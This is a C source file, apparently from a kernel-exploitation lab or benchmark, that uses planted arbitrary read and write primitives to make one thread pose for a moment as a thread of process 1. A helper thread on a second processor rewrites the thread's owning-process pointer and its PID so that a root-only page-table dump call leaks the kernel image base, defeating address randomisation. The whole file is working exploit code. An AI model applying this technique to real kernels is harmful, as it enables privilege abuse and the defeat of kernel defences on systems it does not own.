/*
 * A thread of the attack's belongs to the first process for as long as one call takes: what a root
 * maps of the kernel, which only root may know. Meanwhile all its calls may be refused, so a thread
 * on another processor does that, and puts it right.
 */
#include <string.h>

#include "attack.h"

enum { CPU_OF_ASKER, CPU_OF_WRITER, NR_CPUS };
enum { STAGE_READY = 1, STAGE_ASK, STAGE_ASKED, NR_STAGES };
enum { FIRST_PID = 1, PID_BYTES = 4, NR_RANGES = 16, TRIES = 20 };
/* The kernel's image is somewhere in the last 2 GiB. */
#define IMAGE_AREA 0xffffffff80000000ul

static attack_stage stage;
/* Of the thread that asks, and of its processor. */
static struct bw_leak leak;
static volatile long nr_ranges;
static struct bw_range ranges[NR_RANGES];

/* It never waits in the kernel, and has all its pages: as the first process's thread it must not
 * lose the processor, nor have a page fault. */
static void ask(void *unused)
{
	(void)unused;
	attack_leak(&leak);
	memset(ranges, 1, sizeof(ranges));
	for (unsigned int nr = 0;; nr++) {
		attack_tell(&stage, nr * NR_STAGES + STAGE_READY);
		while (stage < nr * NR_STAGES + STAGE_ASK) {}
		nr_ranges = bw_ptdump(0, BW_ROOT_KERNEL, IMAGE_AREA, ranges, NR_RANGES);
		stage = nr * NR_STAGES + STAGE_ASKED;
		while (stage < (nr + 1) * NR_STAGES) {}
	}
}

static void store(uint64_t at, uint64_t value)
{
	attack_check("vuln_write", bw_vuln_write(at, value));
}

/* As the first process's thread, and with its credentials, or without. False: it was refused. */
static bool ask_as_first(unsigned int nr, bool has_credentials)
{
	uint64_t own, pid;

	attack_await(&stage, nr * NR_STAGES + STAGE_READY, AWAIT_SPIN);
	own = (uint64_t)bw_vuln_read(leak.thread_process);
	pid = (uint64_t)bw_vuln_read(leak.current_pid);
	if (has_credentials) {
		attack_check("vuln_store", bw_vuln_store(leak.current_pid, FIRST_PID, PID_BYTES));
	}
	store(leak.thread_process, leak.process_first);
	attack_tell(&stage, nr * NR_STAGES + STAGE_ASK);
	while (stage < nr * NR_STAGES + STAGE_ASKED) {}
	store(leak.thread_process, own);
	if (has_credentials) {
		bw_vuln_store(leak.current_pid, pid, PID_BYTES);
	}
	attack_tell(&stage, (nr + 1) * NR_STAGES);
	return nr_ranges >= 0;
}

/* What the call told; 0: nothing. */
static uint64_t image_base(void)
{
	for (long i = 0; i < nr_ranges; i++) {
		if (strcmp(ranges[i].region, "kernel image") == 0) {
			return ranges[i].start;
		}
	}
	return 0;
}

int main(void)
{
	struct bw_leak unused;
	unsigned int nr = 0;

	attack_begin(&unused, NR_CPUS, CPU_OF_WRITER);
	attack_thread(CPU_OF_ASKER, ask, NULL);
	attack_await(&stage, STAGE_READY, AWAIT_SPIN);
	attack_say("the thread at 0x%lx is of the process at 0x%lx, for one call of that at 0x%lx",
		   leak.thread_process, leak.process, leak.process_first);
	if (!ask_as_first(nr++, false)) {
		attack_say("refused: %s; now with the number at 0x%lx, by which credentials are "
			   "found, as well",
			   strerror((int)-nr_ranges), leak.current_pid);
	}
	/* a switch of threads undoes that one */
	while (nr_ranges < 0 && nr < TRIES) {
		(void)ask_as_first(nr++, true);
	}
	attack_say("the call told that the kernel's image is at 0x%lx", image_base());
	attack_check("base_prove", bw_base_prove(image_base()));
	return attack_finish();
}
